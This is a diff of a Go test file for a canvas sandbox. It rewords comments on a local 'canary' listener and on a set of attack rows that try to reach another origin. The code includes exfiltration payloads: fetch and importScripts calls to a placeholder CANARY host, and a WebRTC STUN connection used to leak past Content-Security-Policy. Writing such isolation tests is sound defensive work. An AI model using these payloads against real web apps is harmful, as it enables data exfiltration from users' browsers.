@@ -12,9 +12,8 @@ import (
 	"time"
 )
 
-// canary is a place on another origin that nothing of a canvas may reach: one
-// port, where every TCP connection and every UDP datagram is a hit, whatever it
-// wants to say. Each attack has its own.
+// canary is an address on another origin that no canvas may reach: one port, on which
+// each TCP connection and UDP datagram is a hit. Each attack has its own.
 type canary struct {
 	tcp  net.Listener
 	udp  net.PacketConn
@@ -24,7 +23,7 @@ type canary struct {
 
 	mu   sync.Mutex
 	said []string // the first line of each connection, and each datagram
-	shut func()   // hears no more, once everything that came was heard to its end
+	shut func()   // stops listening, after all connections have been read
 }
 
 func newCanary(t *testing.T) *canary {
@@ -46,14 +45,14 @@ func newCanary(t *testing.T) *canary {
 	return c
 }
 
-// host is the canary's authority.
+// host returns the canary's host and port.
 func (c *canary) host() string { return c.tcp.Addr().String() }
 
 func (c *canary) sing(how string) {
 	c.once.Do(func() { c.how = how; close(c.hit) })
 }
 
-// heard says what came.
+// heard describes the hits.
 func (c *canary) heard() string {
 	c.mu.Lock()
 	defer c.mu.Unlock()
@@ -66,14 +65,14 @@ func (c *canary) note(said string) {
 	c.said = append(c.said, said)
 }
 
-// lines are the first line of each connection, and each datagram.
+// lines returns the first line of each connection, and each datagram.
 func (c *canary) lines() []string {
 	c.mu.Lock()
 	defer c.mu.Unlock()
 	return slices.Clone(c.said)
 }
 
-// serveTCP answers enough HTTP that a browser goes on to what it came for.
+// serveTCP answers enough HTTP for a browser to continue.
 func (c *canary) serveTCP() {
 	var conns sync.WaitGroup
 	defer conns.Wait()
@@ -105,28 +104,28 @@ func (c *canary) serveUDP() {
 	}
 }
 
-// attack is one way to get something out of a canvas.
+// attack is one way to get data out of a canvas.
 type attack struct {
 	name string
-	// page is the canvas's document; CANARY is the canary's host and port.
+	// page is the canvas's document; CANARY is replaced by the canary's host and port.
 	page string
 	// more are further files of the canvas.
 	more map[string]string
-	// headers come with the document, where an app is behind the canvas; a row
-	// that has some is only run so.
+	// headers are those of the document, for attacks that only run with an app.
 	headers map[string]string
-	// falls is what must be taken away for the attack to reach its canary: the
-	// proof that the row attacks at all, and that nothing else holds it. The
-	// default is everything around the canvas's document.
+	// falls are the protections that must be removed for the attack to succeed, which
+	// proves that it works and that nothing else stops it. The default is all around
+	// the document.
 	falls []strip
-	// holds says why the row stands although nothing of ours holds it.
+	// holds is the reason why the attack fails although none of our protections stops
+	// it.
 	holds string
 }
 
-// settled tells the host that the attack has had its time.
+// settled notifies the host that the attack has had its time.
 const settled = `<script type="module">import { send } from "/.ahp/canvas.js"; setTimeout(() => send("done"), 900);</script>`
 
-// app is the attack as an app behind a canvas.
+// app returns the attack as an app.
 func (a attack) app(t *testing.T, i int, c *canary) site {
 	s := a.site(i, c)
 	s.app = newApp(t)
@@ -151,7 +150,7 @@ func (a attack) app(t *testing.T, i int, c *canary) site {
 	return s
 }
 
-// site is the attack as a canvas.
+// site returns the attack as a canvas.
 func (a attack) site(i int, c *canary) site {
 	fill := func(s string) string { return strings.ReplaceAll(s, "CANARY", c.host()) }
 	files := map[string]string{"index.html": "<!doctype html><meta charset=utf-8><title>attack</title><body>" + fill(a.page) + settled}
@@ -161,16 +160,16 @@ func (a attack) site(i int, c *canary) site {
 	return site{id: fmt.Sprintf("a%d", i), title: a.name, files: files}
 }
 
-// js is an attack that is one script.
+// js is an attack in one script.
 func js(code string) string { return "<script>" + code + "</script>" }
 
-// inFrame runs code in the document of a frame of the canvas's own, once loaded.
+// inFrame runs code in the document of a new frame within the canvas, once loaded.
 func inFrame(src, code string) string {
 	return fmt.Sprintf(`<iframe id=f src="%s" onload="(function(w,d){try{%s}catch(e){}})(this.contentWindow,this.contentDocument)"></iframe>`, src, strings.ReplaceAll(code, `"`, "&quot;"))
 }
 
-// webrtc looks for the canary as a server of window w's connection. It waits
-// for the page to be up: Chromium ends the process.
+// webrtc connects window w to the canary as a STUN server. It waits until the page is
+// loaded, because Chromium kills the process.
 func webrtc(server string) string {
 	return fmt.Sprintf(`setTimeout(function(){var p=new w.RTCPeerConnection({iceServers:[{urls:"%s",username:"u",credential:"c"}]});p.createDataChannel("x");p.createOffer().then(function(o){p.setLocalDescription(o)})},300)`, server)
 }
@@ -181,7 +180,7 @@ const (
 	workerBody = `fetch("http://CANARY/w",{mode:"no-cors"}).catch(()=>{});try{importScripts("http://CANARY/i.js")}catch{}`
 )
 
-// What rows fall to. In a sandbox row the sandbox is all that holds.
+// Protections that stop attacks. For a sandbox row, only the sandbox does.
 var (
 	canvasBare = []strip{"answer: Content-Security-Policy", "answer: Connection-Allowlist", "worker"}
 	canvasOpen = []strip{"answer: Connection-Allowlist"}
